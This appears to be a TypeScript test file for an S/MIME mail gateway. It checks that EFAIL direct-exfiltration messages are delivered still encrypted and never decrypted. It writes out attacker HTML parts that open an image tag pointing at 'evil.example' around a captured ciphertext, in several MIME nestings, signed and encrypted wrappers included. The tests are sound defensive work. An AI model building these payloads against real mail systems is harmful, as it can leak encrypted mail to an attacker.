// EFAIL direct exfiltration: an attacker puts a captured ciphertext between
// HTML parts of their own (`<img src="http://evil/?` ... `">`) and sends it
// to its legitimate recipient. A client or gateway that decrypts the part and
// merges it into the message leaks the plaintext to the attacker's server.
// The gateway only ever unwraps the top-level entity (src/smime/inbound.ts):
// an encrypted part beside other parts is left encrypted, whatever surrounds
// it. At the milter protocol level with the real gateway application, mail
// from outside to our recipient (the direction that is decrypted).
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { splitMessage } from '../../src/mime/index.js';
import { transformOutbound } from '../../src/smime/outbound.js';
import type { MilterOutcome } from '../helpers/gateway-app.js';
import { applyEdits } from '../helpers/gateway-app.js';
import type { TestMilter } from '../helpers/milter.js';
import {
  addedResults,
  assertNoPlaintext,
  OUTSIDE,
  protectedByOrg,
  replyOf,
  SECRET,
  type SecurityPki,
  securityPki,
  send,
  startUs,
} from '../helpers/security-fixture.js';

let pki: SecurityPki;
let milter: TestMilter;
/** The encrypted entity (Content-* headers and base64 body) of the captured mail. */
let encryptedPart: string;
let captured: Buffer;

const HTML_OPEN = 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n';
const HTML_CLOSE = 'Content-Type: text/html\r\n\r\n">\r\n';
const MALLORY =
  'From: Mallory <mallory@example.com>\r\nTo: Bob <bob@example.net>\r\nSubject: see attached\r\nMessage-ID: <efail@example.com>\r\n';

before(async () => {
  pki = await securityPki();
  milter = await startUs(pki);
  captured = await protectedByOrg(pki);
  const { headers, body } = splitMessage(captured);
  const entityHeaders = headers
    .filter((h) => h.name.toLowerCase().startsWith('content-'))
    .map((h) => `${h.raw.toString('latin1')}\r\n`)
    .join('');
  assert.match(entityHeaders, /enveloped-data/);
  encryptedPart = `${entityHeaders}\r\n${body.toString('latin1')}`;
});

after(async () => {
  await milter?.close();
  await pki?.cleanup();
});

/** A multipart entity (headers and body) of `parts` with boundary `b`. */
function multipart(type: string, b: string, parts: string[], preamble = '', epilogue = ''): string {
  return `Content-Type: multipart/${type}; boundary="${b}"\r\n\r\n${preamble}${parts
    .map((p) => `--${b}\r\n${p}\r\n`)
    .join('')}--${b}--\r\n${epilogue}`;
}

const efailMixed = (): string => multipart('mixed', 'b1', [HTML_OPEN, encryptedPart, HTML_CLOSE]);

function fromMallory(entity: string): Buffer {
  return Buffer.from(`${MALLORY}MIME-Version: 1.0\r\n${entity}`, 'latin1');
}

const toBob = (m: Buffer): Promise<MilterOutcome> =>
  send(milter, m, {
    from: '<mallory@example.com>',
    rcpts: ['<bob@example.net>'],
    address: OUTSIDE,
  });

/** Delivered, nothing decrypted: the attacker's structure reaches Bob with the ciphertext still in it. */
function assertStillEncrypted(m: Buffer, o: MilterOutcome): Buffer {
  assertNoPlaintext(o);
  assert.equal(o.decision?.type, 'accept', replyOf(o.decision));
  const out = applyEdits(m, o.edits);
  assert.ok(!out.includes(SECRET), 'no plaintext in the delivered message');
  // The ciphertext is still there, byte for byte (its base64 lines).
  const line = encryptedPart.split('\r\n').find((l) => l.length === 76);
  assert.ok(line && out.includes(line), 'the encrypted part is delivered as it came');
  return out;
}

describe('EFAIL: an encrypted part among attacker-controlled parts is never decrypted', () => {
  it('control: the captured mail alone, to Bob from outside, is decrypted', async () => {
    const o = await toBob(captured);
    assert.ok(applyEdits(captured, o.edits).includes(SECRET));
  });

  it('multipart/mixed: HTML, the encrypted part, HTML', async () => {
    const m = fromMallory(efailMixed());
    const o = await toBob(m);
    assertStillEncrypted(m, o);
    assert.deepEqual(
      o.edits.map((e) => e.type),
      ['insertHeader'],
      'only our Authentication-Results',
    );
    assert.match(addedResults(o)[0] ?? '', /smime=none/);
  });

  it('multipart/alternative and multipart/related around it, and nested two levels deep', async () => {
    for (const entity of [
      multipart('alternative', 'b2', [HTML_OPEN, encryptedPart, HTML_CLOSE]),
      multipart('related', 'b3', [HTML_OPEN, encryptedPart, HTML_CLOSE]),
      multipart('mixed', 'outer', [
        HTML_OPEN,
        multipart('mixed', 'inner', [encryptedPart]),
        HTML_CLOSE,
      ]),
      // The encrypted part as the only part of a multipart: still a part, not the message.
      multipart('mixed', 'only', [encryptedPart]),
    ]) {
      const m = fromMallory(entity);
      assertStillEncrypted(m, await toBob(m));
    }
  });

  it('the captured message forwarded as a message/rfc822 attachment beside HTML', async () => {
    const m = fromMallory(
      multipart('mixed', 'fwd', [
        HTML_OPEN,
        `Content-Type: message/rfc822\r\n\r\n${captured.toString('latin1')}`,
        HTML_CLOSE,
      ]),
    );
    assertStillEncrypted(m, await toBob(m));
  });

  for (const format of ['detached', 'opaque'] as const) {
    it(`a ${format} signature (valid, trusted signer) whose signed content holds the encrypted part beside HTML`, async () => {
      const r = await transformOutbound(fromMallory(efailMixed()), {
        signer: {
          certificate: pki.org.signing.certificate,
          chain: [pki.org.ca.certificate],
          privateKey: pki.org.signing.privateKey,
        },
        recipients: [],
        options: { sign: true, encrypt: false, signatureFormat: format },
      });
      assert.ok(r.ok);
      const o = await toBob(r.message);
      // The signature is checked (valid and trusted, but example.org's for Mallory's
      // From: not bound, so smime=policy) and taken off; the content stays as signed.
      assert.match(addedResults(o)[0] ?? '', /smime=policy/);
      const out = assertStillEncrypted(r.message, o);
      assert.match(out.toString('latin1'), /multipart\/mixed; boundary="b1"/);
    });
  }

  it('encrypted to us (legitimately decrypted) with the captured ciphertext beside HTML inside: the inner ciphertext stays', async () => {
    // Mallory encrypts her own wrapper to our public certificate (AES-GCM: its
    // integrity is the AEAD tag's, so it is delivered decrypted without a signature).
    const wrapper = await protectedByOrg(pki, fromMallory(efailMixed()), {
      sign: false,
      cipher: 'aes-256-gcm',
    });
    const o = await toBob(wrapper);
    const out = assertStillEncrypted(wrapper, o);
    assert.ok(out.includes('evil.example'), 'the outer layer was decrypted');
  });

  it('multipart/signed around the ciphertext alone (sign-after-encrypt layering): not decrypted, since no signature bound to its author vouches for the CBC content', async () => {
    // Mallory signs the captured entity with her own certificate and puts HTML in the preamble and epilogue.
    const r = await transformOutbound(fromMallory(encryptedPart), {
      signer: {
        certificate: pki.com.signing.certificate,
        chain: [pki.com.ca.certificate],
        privateKey: pki.com.signing.privateKey,
      },
      recipients: [],
      options: { sign: true, encrypt: false, reprotect: true },
    });
    assert.ok(r.ok, r.ok ? '' : r.error.message);
    const text = r.message.toString('latin1');
    const boundary = /boundary="([^"]+)"/.exec(text)?.[1];
    assert.ok(boundary);
    const withHtml = Buffer.from(
      text
        .replace(
          `\r\n--${boundary}\r\n`,
          `\r\n<img src="http://evil.example/?\r\n--${boundary}\r\n`,
        )
        .replace(`--${boundary}--\r\n`, `--${boundary}--\r\n">\r\n`),
      'latin1',
    );
    const o = await toBob(withHtml);
    assert.equal(o.decision?.type, 'accept');
    // Mallory's own signature is untrusted, and example.org's inside is not
    // bound to her From: the rewrapped capture is delivered as it came.
    assertNoPlaintext(o);
    const out = applyEdits(withHtml, o.edits);
    assert.ok(!out.includes(SECRET), 'nothing decrypted handed over');
    assert.ok(!o.edits.some((e) => e.type === 'replaceBody'), 'delivered as it came');
    assert.match(addedResults(o)[0] ?? '', /smime=permerror/);
  });
});
